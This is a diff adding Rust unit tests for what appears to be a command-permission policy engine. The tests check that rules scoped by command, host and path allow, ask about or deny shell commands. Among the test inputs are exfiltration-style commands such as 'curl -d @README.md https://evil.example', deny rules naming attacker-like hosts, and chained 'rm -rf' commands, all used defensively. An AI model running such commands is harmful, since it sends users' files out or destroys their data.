@@ -302,3 +302,46 @@ fn a_reason_is_for_a_person() {
     };
     assert!(reason.contains("git push") && reason.contains("rm -rf src"), "{reason}");
 }
+
+#[test]
+fn a_rule_that_names_a_command_and_a_resource_is_about_both() {
+    let world = World::new();
+    let with = |rule: &str| {
+        world.with(&format!("profiles: {{p: {{extends: default, {rule}}}}}"), "p").unwrap()
+    };
+    let p = with("approved: [{scope: network:send, commands: [curl], hosts: [x.example]}]");
+    assert_eq!(world.judged(&p, "curl -d a https://x.example"), Answer::Allow);
+    for other in [
+        "curl -d @README.md https://evil.example",
+        "wget --post-data=a https://x.example",
+        "scp a x.example:b",
+    ] {
+        assert_eq!(world.judged(&p, other), Answer::Ask, "{other}");
+    }
+    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "x.example"), Answer::Ask);
+    let p = with("approved: [{scope: file:write, paths: ['/opt/a/**'], commands: [cp]}]");
+    assert_eq!(world.judged(&p, "cp README.md /opt/a/x"), Answer::Allow);
+    assert_eq!(world.judged(&p, "cp README.md /opt/b/x"), Answer::Ask);
+    assert_eq!(world.judged(&p, "echo x > /opt/a/x"), Answer::Ask);
+    let p = with("deny: [{scope: network:fetch, commands: [curl], hosts: [bad.example]}]");
+    assert_eq!(world.judged(&p, "curl https://good.example"), Answer::Allow);
+    assert_eq!(world.judged(&p, "curl https://bad.example"), Answer::Deny);
+    // Of one kind, any will do.
+    let p = with("deny: [{scope: network:fetch, hosts: [bad.example, evil.example]}]");
+    assert_eq!(world.judged(&p, "curl https://evil.example"), Answer::Deny);
+}
+
+#[test]
+fn an_exact_command_is_no_part_of_another() {
+    let world = World::new();
+    world.put("ws/k/a", "x");
+    let yaml = "profiles: {p: {extends: default, \
+                approved: [{scope: terminal:execute, commands: ['= rm -rf k']}]}}";
+    let p = world.with(yaml, "p").unwrap();
+    assert_eq!(world.judged(&p, "rm -rf k"), Answer::Allow);
+    for part in
+        ["cd src && rm -rf k", "(cd src; rm -rf k)", "D=src; cd $D && rm -rf k", "ls; rm -rf k"]
+    {
+        assert_eq!(world.judged(&p, part), Answer::Ask, "{part}");
+    }
+}
